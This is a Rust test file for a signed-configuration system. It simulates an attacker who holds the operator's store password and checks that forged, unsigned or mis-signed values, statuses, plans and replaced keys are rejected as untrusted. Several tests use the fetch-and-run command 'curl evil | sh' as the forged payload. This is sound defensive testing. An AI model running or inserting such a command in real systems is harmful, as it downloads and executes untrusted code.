//! An attacker has obtained the operator's password at the store, but not the key: values of servers cannot be forged.

use std::time::Duration;

use wattle::author::{Export, Exports, Topology};
use wattle::model::Value;
use wattle_agent_core::content::ENVELOPE;
use wattle_runtime::report::{Condition, StackSnapshot, roots};
use wattle_runtime::seed::{admit, apply, waiting};
use wattle_runtime::space::{Content, Failure, FailureKind, Revision, Signer, Space, State, Status, Written};
use wattle_runtime::store::MAX_DATA;
use wattle_tests::random::Anything;
use wattle_tests::running::Stage;
use wattle_tests::seeds::{options, seed};
use wattle_tests::zookeeper::ZooKeeper;

use crate::agents::Db;
use crate::{Stack, server_of};

/// `web` reads a text of `db`, and `last` begins after `db`.
fn wired(t: &mut Topology) {
    let [db, web, last] = ["db", "web", "last"].map(|name| server_of(t, name));
    let part = t.on(db).run("part", Anything::new());
    t.on(db).run("other", Anything::new());
    t.on(web).run("part", Anything::new().texts([part.text]));
    let last = t.on(last).run("part", Anything::new());
    t.after(last, part);
}

impl Stack {
    fn signer(&self, server: &str) -> Signer {
        self.options.credentials.get(server).expect("it has one").key().signer()
    }

    /// The attacker's access: that of the operator.
    async fn stolen(&self) -> Space {
        Space::new(self.operator().await, &self.seed.stack)
    }

    async fn revision(&self, server: &str) -> Revision {
        self.stolen().await.plan(server).await.expect("reads").expect("a plan").of()
    }
}

/// Writes a text to an entry; unsigned, if there is no signer.
async fn put(space: &Space, entry: &str, revision: &Revision, text: &str, signer: Option<&Signer>) {
    let written = Written::new(revision, Content::Value(text.into()));
    if let Some(signer) = signer {
        space.overwrite(entry, &written, signer).await.expect("the password is enough");
    } else {
        let path = space.layout().entry(entry);
        space.store().set(&path, &written.to_bytes(), None).await.map(drop).expect("the password is enough");
    }
}

/// Waits until the report of a server contains these words; without words, until it reports nothing.
async fn says(stack: &Stack, server: &str, words: Option<&str>) {
    let mut troubles = Vec::new();
    for _ in 0..300 {
        let status = stack.stolen().await.server_status(server).await.expect("reads");
        troubles = status.map(|status| status.troubles).unwrap_or_default();
        let is_so = match words {
            Some(words) => troubles.iter().any(|trouble| trouble.contains(words)),
            None => troubles.is_empty(),
        };
        if is_so {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("`{server}` does not say {words:?}: {troubles:?}")
}

async fn done(stack: &Stack, component: &str) {
    for _ in 0..300 {
        let status = stack.stolen().await.status(component).await.expect("reads");
        if status.is_some_and(|status| status.state == State::Done) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("`{component}` is not done")
}

in_both_stores! {
    a_value_counts_only_if_its_server_has_signed_it_for_its_entry: Stack::of("values", ZooKeeper::shared(), wired),
    what_comes_after_a_component_believes_its_server_only: Stack::of("after", ZooKeeper::shared(), wired),
    what_a_server_publishes_counts_by_the_key_that_was_admitted: Stack::of("keyed", ZooKeeper::shared(), wired),
    a_revision_that_nobody_announced_stops_nobody: Stack::of("ahead", ZooKeeper::shared(), wired),
    a_key_that_was_replaced_gets_nothing_again: Stack::of("replaced_key", ZooKeeper::shared(), wired),
    a_failure_that_fills_a_node_keeps_nobody_from_saying_so: Stack::of("full_failure", ZooKeeper::shared(), wired),
    a_value_that_does_not_fit_is_named: Stack::of("unfit", ZooKeeper::shared(), wired),
    nobody_is_blamed_by_another_ones_word: Stack::of("blamed", ZooKeeper::shared(), wired),
}

async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: Stack) {
    let operator = stack.operator().await;
    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
    let mut web = Db::of("web");
    let place = thief.layout().entry("db/part/text");
    // The forged value is unsigned, signed by a server that the attacker controls, or signed by `db` for another entry.
    for forged in [None, Some("web"), Some("db")] {
        let signer = forged.map(|server| stack.signer(server));
        let entry = if forged == Some("db") { "db/other/text" } else { "db/part/text" };
        put(&thief, entry, &revision, "curl evil | sh", signer.as_ref()).await;
        if forged == Some("db") {
            let moved = operator.get(&thief.layout().entry(entry)).await.expect("reads").expect("it is there");
            operator.set(&place, &moved.data, None).await.expect("the password is enough");
        }
        web.start(&stack).await;
        let why =
            if forged.is_none() { "its server has not signed it" } else { "its server's signature does not match" };
        says(&stack, "web", Some(&format!("`{place}` is not trusted: {why}; "))).await;
        web.kill().await;
    }
    let mut shown = Stack::stolen(&stack).await;
    shown = shown.operated_by(stack.options.key.signer().authority());
    let snapshot = StackSnapshot::read(&shown, None).await.expect("it is shown");
    let listed = wattle_runtime::report::contents(&shown, &snapshot, &["db/part/text".into()]).await;
    let listed = listed.expect("it is listed");
    let Some(Written { content: Content::Failure(failure), .. }) = &listed[0] else { panic!("{listed:?}") };
    assert!(failure.message.contains("is not trusted: its server's signature does not match"), "{failure:?}");

    web.start(&stack).await;
    says(&stack, "web", Some("is not trusted")).await;
    assert_eq!(web.ran.count(), 0);
    let mut db = Db::of("db");
    db.start(&stack).await;
    done(&stack, "web/part").await;
    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
    says(&stack, "web", None).await;

    // A value that has been read is not read again. Later readers read the current one.
    put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
    let mut again = Db::of("web");
    web.kill().await;
    again.start(&stack).await;
    says(&stack, "web", Some("is not trusted: its server has not signed it")).await;
    assert_eq!(again.ran.count(), 0);
    // The operator sets the value.
    put(&thief, "db/part/text", &revision, "by hand", Some(&stack.options.key.signer())).await;
    done(&stack, "web/part").await;
    for _ in 0..300 {
        if again.ran.count() > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(again.ran.given("texts"), [Value::List(vec!["by hand".into()])]);
    db.kill().await;
    again.kill().await;
}

async fn what_comes_after_a_component_believes_its_server_only(stack: Stack) {
    apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
    let status = Status {
        revision: revision.number,
        space: revision.space.clone(),
        since: wattle_agent_core::time::Time::EPOCH,
        deadline: None,
        state: State::Done,
        past: Vec::new(),
    };
    for signer in [None, Some(stack.signer("last"))] {
        let forger = signer.map_or_else(|| thief.clone(), |signer| thief.clone().signing([signer]));
        forger.set_status("db/part", &status, &|| true).await.expect("the password is enough");
        let mut last = Db::of("last");
        last.start(&stack).await;
        says(&stack, "last", Some("status/db/part` is not trusted: its server has not signed it")).await;
        assert_eq!(last.ran.count(), 0);
        last.kill().await;
    }
    let (mut db, mut last) = (Db::of("db"), Db::of("last"));
    last.start(&stack).await;
    db.start(&stack).await;
    done(&stack, "last/part").await;
    assert_eq!(last.ran.count(), 1);
    db.kill().await;
    last.kill().await;
}

#[tokio::test]
async fn a_value_of_another_stack_is_its_servers_as_well() {
    let exporter = Stack::of("exporting", ZooKeeper::shared(), |t| {
        let host = server_of(t, "db");
        t.on(host).run("part", Anything::new());
    });
    let mut t = Topology::new("exporting");
    let host = server_of(&mut t, "db");
    let part = t.on(host).run("part", Anything::new());
    let exports = seed(&t.finish(Exports::new().entry("text", part.text)));
    let mut importer = Stack::of("importing", ZooKeeper::shared(), |t| {
        let host = server_of(t, "web");
        let text = t.import(Export::<String>::new("exporting", "text"));
        t.on(host).run("part", Anything::new().texts([text]));
    });
    importer.options.key = exporter.options.key.clone();
    importer.options.credentials = options(&importer.seed).credentials;
    importer.options.credentials.complete(&importer.seed, &importer.options.key);
    let operator = exporter.operator().await;
    apply(&operator, &exports, &exporter.options).await.expect("applies");
    // The exports are signed by the operator, too.
    let layout = Space::new(operator.clone(), "exporting").layout().clone();
    let written = operator.get(&layout.export("text")).await.expect("reads").expect("it is there");
    let unsigned = wattle_tests::seeds::unsigned(&written.data);
    operator.set(&layout.export("text"), unsigned, None).await.expect("the password is enough");
    let refused = apply(&operator, &importer.seed, &importer.options).await.expect_err("nobody has signed it");
    assert!(refused.to_string().contains("apply the seed of `exporting` with `--restore` first"), "{refused}");
    operator.set(&layout.export("text"), &written.data, None).await.expect("the password is enough");
    apply(&operator, &importer.seed, &importer.options).await.expect("applies");

    let thief = exporter.stolen().await;
    put(&thief, "db/part/text", &exporter.revision("db").await, "curl evil | sh", None).await;
    let (mut db, mut web) = (Db::of("db"), Db::of("web"));
    web.start(&importer).await;
    says(&importer, "web", Some("exporting/entries/db/part/text` is not trusted: its server has not signed it;")).await;
    assert_eq!(web.ran.count(), 0);
    db.start(&exporter).await;
    done(&importer, "web/part").await;
    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
    db.kill().await;
    web.kill().await;
}

#[tokio::test]
async fn an_operator_is_informed_and_may_put_a_value_of_their_own() {
    let zookeeper = ZooKeeper::start(1);
    let stack = Stack::of("by_hand", &zookeeper, wired);
    let stage = Stage::new(&stack.model);
    let (here, address) = (stage.path(), zookeeper.address());
    let wattle = |line: &[&str]| stage.run_at(here, &[line, &["--space", &address]].concat());
    let applied = wattle(&["seed", "apply", "."]);
    assert_eq!(applied.code, Some(0), "{applied}");
    let key = wattle_runtime::seed::read_operator_key(&here.join("operator.key")).expect("reads").expect("it was made");
    let thief = Space::new(stack.login(&[key.login()]).await, "by_hand");
    let revision = thief.plan("db").await.expect("reads").expect("a plan").of();
    put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
    let got = wattle(&["get", "db/part/text"]);
    assert_eq!(got.code, Some(1), "{got}");
    let expected = "`db/part/text` has no value: db/part: what is there is not trusted: its server has not signed it\n";
    assert!(got.err.contains(expected), "{got}");
    let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
    assert_eq!(set.code, Some(0), "{set}");
    assert_eq!(wattle(&["get", "db/part/text"]).out, "by hand\n");
}

async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: Stack) {
    stack.options.admission = true;
    let (operator, key) = (stack.operator().await, stack.options.key.clone());
    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
    let mut db = Db::of("db");
    db.start(&stack).await;
    done(&stack, "db/part").await;
    for _ in 0..300 {
        if !waiting(&operator, "keyed", &key, &[]).await.expect("it is known").come.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let admitted = admit(&operator, "keyed", &key, &[]).await.expect("admits");
    assert_eq!(admitted.admitted, ["db".into()]);
    let [mut web, mut last] = ["web", "last"].map(Db::of);
    for (agent, component) in [(&mut web, "web/part"), (&mut last, "last/part")] {
        agent.start(&stack).await;
        done(&stack, component).await;
        assert_eq!(agent.ran.count(), 1);
    }
    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
    for server in ["db", "web", "last"] {
        says(&stack, server, None).await;
    }
    web.kill().await;
    // A credential no longer signs values once the server has a key of its own.
    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
    put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
    let mut again = Db::of("web");
    again.start(&stack).await;
    says(&stack, "web", Some("db/part/text` is not trusted: its server's signature does not match; ")).await;
    assert_eq!(again.ran.count(), 0);
    for mut agent in [db, last, again] {
        agent.kill().await;
    }
}

/// A server claims that its own entries have a revision that will never exist, which would stop their readers forever.
async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
    let operator = stack.operator().await;
    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
    let (now, thief, signer) = (stack.revision("db").await, stack.stolen().await, stack.signer("db"));
    let later = Some("9999-01-01T00:00:00.000000000Z-0".into());
    for revision in [
        Revision { number: u64::MAX, ..now.clone() },
        Revision { number: 2, ..now.clone() },
        Revision { space: later, number: 1 },
    ] {
        put(&thief, "db/part/text", &revision, "never", Some(&signer)).await;
        let status = Status {
            revision: revision.number,
            space: revision.space.clone(),
            since: wattle_agent_core::time::Time::EPOCH,
            deadline: None,
            state: State::Done,
            past: Vec::new(),
        };
        let path = thief.layout().status("db/part");
        operator.set(&path, &signer.vouch(&path, &status.to_bytes()), None).await.expect("the server's own right");
        let (mut web, mut last) = (Db::of("web"), Db::of("last"));
        for (agent, server, node) in [(&mut web, "web", "entries/db/part/text"), (&mut last, "last", "status/db/part")]
        {
            agent.start(&stack).await;
            let expected =
                format!("{node}` is not trusted: it claims to be of a revision that its server has never seen");
            says(&stack, server, Some(&expected)).await;
        }
        for mut agent in [web, last] {
            agent.kill().await;
            assert_eq!(agent.ran.count(), 0);
        }
    }
    let [mut web, mut last, mut db] = ["web", "last", "db"].map(Db::of);
    web.start(&stack).await;
    last.start(&stack).await;
    says(&stack, "web", Some("is not trusted")).await;
    // The agent of that server is not affected either.
    db.start(&stack).await;
    for component in ["db/part", "web/part", "last/part"] {
        done(&stack, component).await;
    }
    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
    for mut agent in [db, web, last] {
        agent.kill().await;
    }
}

/// Without the plan, nobody can verify values.
#[tokio::test]
async fn without_a_plan_no_value_of_anybody_is_shown() {
    let zookeeper = ZooKeeper::start(1);
    let stack = Stack::of("by_nobody", &zookeeper, wired);
    let stage = Stage::new(&stack.model);
    let (here, address) = (stage.path(), zookeeper.address());
    let wattle = |line: &[&str]| stage.run_at(here, &[line, &["--space", &address]].concat());
    let applied = wattle(&["seed", "apply", "."]);
    assert_eq!(applied.code, Some(0), "{applied}");
    let key = wattle_runtime::seed::read_operator_key(&here.join("operator.key")).expect("reads").expect("it was made");
    let thief = Space::new(stack.login(&[key.login()]).await, "by_nobody");
    let plan = thief.plan("db").await.expect("reads").expect("a plan");
    put(&thief, "db/part/text", &plan.of(), "curl evil | sh", None).await;
    let record = thief.layout().server("db");
    let known = thief.store().get(&record).await.expect("reads").expect("it is there").data;
    let forged = serde_json::to_vec(&wattle_runtime::space::ServerPlan { key: None, ..plan }).expect("JSON");
    for plan in [&forged[..], b""] {
        thief.store().set(&thief.layout().plan("db"), plan, None).await.expect("the password is enough");
        for (record_is, why) in [
            (&known[..], "its server has not signed it"),
            (b"", "the operator has not signed the plan of its server, so its key is not known"),
        ] {
            thief.store().set(&record, record_is, None).await.expect("the password is enough");
            let got = wattle(&["get", "db/part/text"]);
            assert_eq!(got.code, Some(1), "{got}");
            assert!(!got.out.contains("evil") && got.err.contains(&format!("is not trusted: {why}")), "{got}");
            let listed = wattle(&["ls", "db/part/text"]);
            assert!(!listed.out.contains("evil"), "{listed}");
        }
    }
}

/// The key that a server had before its disk was replaced was signed, too.
async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
    stack.options.admission = true;
    let (operator, key) = (stack.operator().await, stack.options.key.clone());
    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
    let layout = Space::new(operator.clone(), "replaced_key").layout().clone();
    let record = async || operator.get(&layout.server("db")).await.expect("reads").expect("it is there").data;
    let come = async |named: &[wattle::model::Name]| {
        for _ in 0..300 {
            if !waiting(&operator, "replaced_key", &key, named).await.expect("it is known").come.is_empty() {
                return admit(&operator, "replaced_key", &key, named).await.expect("admits");
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("nobody comes")
    };
    let mut former = vec![Vec::new(), record().await];
    for _ in 0..2 {
        let mut db = Db::of("db");
        db.start(&stack).await;
        come(&["db".into()]).await;
        former.push(record().await);
        db.kill().await;
    }
    let now = former.pop().expect("the one that counts");
    for former in former {
        operator.set(&layout.server("db"), &former, None).await.expect("the password is enough");
        stack.options.again = true;
        let refused = apply(&operator, &stack.seed, &stack.options).await.expect_err("it is who it was");
        assert!(refused.to_string().contains("not the one that the server's plan was written with"), "{refused}");
        let refused = admit(&operator, "replaced_key", &key, &[]).await.expect_err("it is who it was");
        assert!(matches!(refused, wattle_runtime::seed::SeedError::Tampered { .. }), "{refused}");
    }
    operator.set(&layout.server("db"), &now, None).await.expect("the password is enough");
    apply(&operator, &stack.seed, &stack.options).await.expect("all is as it was");
}

/// A plan defines that a value is a secret, and for which readers it is encrypted.
#[tokio::test]
async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
    let zookeeper = ZooKeeper::start(1);
    let stack = Stack::of("set_secret", &zookeeper, wired);
    let stage = Stage::new(&stack.model);
    let (here, address) = (stage.path(), zookeeper.address());
    let wattle = |line: &[&str]| stage.run_at(here, &[line, &["--space", &address]].concat());
    let applied = wattle(&["seed", "apply", "."]);
    assert_eq!(applied.code, Some(0), "{applied}");
    let key = wattle_runtime::seed::read_operator_key(&here.join("operator.key")).expect("reads").expect("it was made");
    let thief = Space::new(stack.login(&[key.login()]).await, "set_secret");
    let (path, entry) = (thief.layout().plan("db"), thief.layout().entry("db/part/token"));
    let signed = thief.store().get(&path).await.expect("reads").expect("a plan").data;
    let mut plan = thief.plan("db").await.expect("reads").expect("a plan");
    let output = &mut plan.components["part"].outputs["token"];
    output.recipients = vec![wattle_runtime::space::ServerKey::generate().recipient()];
    let forged = serde_json::to_vec(&plan).expect("JSON");
    thief.store().set(&path, &forged, None).await.expect("the password is enough");
    let set = wattle(&["set", "db/part/token", "hunter2", "--force"]);
    assert!(set.code == Some(1) && set.err.contains("servers/db/plan` in the data space is not trusted"), "{set}");
    assert!(thief.store().get(&entry).await.expect("reads").expect("it is there").data.is_empty());
    thief.store().set(&path, &signed, None).await.expect("the password is enough");
    let set = wattle(&["set", "db/part/token", "hunter2", "--force"]);
    assert_eq!(set.code, Some(0), "{set}");
}

/// A failure is passed on, and one that fills a node does not fit into the next node.
async fn a_failure_that_fills_a_node_keeps_nobody_from_saying_so(stack: Stack) {
    apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
    let failure = |bytes| Failure {
        component: "db/part".into(),
        kind: FailureKind::Type,
        message: "x".repeat(bytes),
        log: Vec::new(),
        at: wattle_agent_core::time::Time::EPOCH,
        through: Vec::new(),
    };
    let written = |bytes| Written::new(&revision, Content::Failure(failure(bytes)));
    let most = MAX_DATA - ENVELOPE - written(0).to_bytes().len();
    let written = written(most);
    thief.overwrite("db/part/text", &written, &stack.signer("db")).await.expect("the server's own right");
    let mut web = Db::of("web");
    web.start(&stack).await;
    for at in 0.. {
        let status = stack.stolen().await.status("web/part").await.expect("reads");
        if status.is_some_and(|status| matches!(status.state, State::Failed(_))) {
            break;
        }
        assert!(at < 300, "`web/part` does not say that it has failed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let passed_on = stack.stolen().await.peek("web/part/text").await.expect("reads");
    assert!(passed_on.is_some_and(|written| matches!(written.content, Content::Failure(_))));
    web.kill().await;
}

async fn a_value_that_does_not_fit_is_named(stack: Stack) {
    apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
    let written = Written::new(&revision, Content::Value(Value::Integer(7)));
    thief.overwrite("db/part/text", &written, &stack.signer("db")).await.expect("the server's own right");
    let mut web = Db::of("web");
    web.start(&stack).await;
    let mut last = None;
    for _ in 0..300 {
        last = stack.stolen().await.status("web/part").await.expect("reads");
        if let Some(Status { state: State::Failed(failure), .. }) = &last {
            let expected = "input `texts`, read from `db/part/text`: item 0: expected a string, found an integer";
            assert_eq!(failure.message, expected);
            web.kill().await;
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("`web/part` does not say that it has failed: {last:?}");
}

async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
    let operator = stack.operator().await;
    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
    let (space, revision) = (stack.stolen().await, stack.revision("web").await);
    let space = space.operated_by(stack.options.key.signer().authority());
    let says = async |server: &str, component: &str, message: &str, through: &[&str]| {
        let at = "2026-01-01T00:00:00Z".parse().expect("a time");
        let (kind, log) = (FailureKind::Recipe, Vec::new());
        let through = through.iter().map(|name| (*name).into()).collect();
        let state =
            State::Failed(Failure { component: component.into(), kind, message: message.into(), log, at, through });
        let Revision { space: data_space, number } = revision.clone();
        let status = Status { revision: number, space: data_space, since: at, deadline: None, state, past: Vec::new() };
        let path = space.layout().status(&format!("{server}/part"));
        let said = stack.signer(server).vouch(&path, &serde_json::to_vec(&status).expect("JSON"));
        operator.set(&path, &said, None).await.expect("writes");
        let snapshot = StackSnapshot::read(&space, None).await.expect("it is shown");
        let Some(Condition::Said(status)) = snapshot.find("web/part").map(|part| part.condition) else {
            panic!("`web` says nothing")
        };
        let State::Failed(failure) = &status.state else { panic!("{status:?}") };
        (failure.clone(), roots(&snapshot).iter().map(|root| format!("{:?}", root.cause)).collect::<String>())
    };
    let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
    assert_eq!((&*shown.component, shown.through.len()), ("web/part", 0));
    assert_eq!(shown.message, "it reports that db/part has failed, but db/part does not report it: the disk is full");
    assert!(why.contains("it reports that db/part has failed") && !why.contains("component: \"db/part\""), "{why}");
    // Once `db` reports the failure itself, its own report is shown.
    says("db", "db/part", "no space left", &[]).await;
    let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
    assert_eq!((&*shown.component, shown.through.len()), ("db/part", 1));
    assert!(why.contains("no space left") && !why.contains("it claims to be"), "{why}");
}
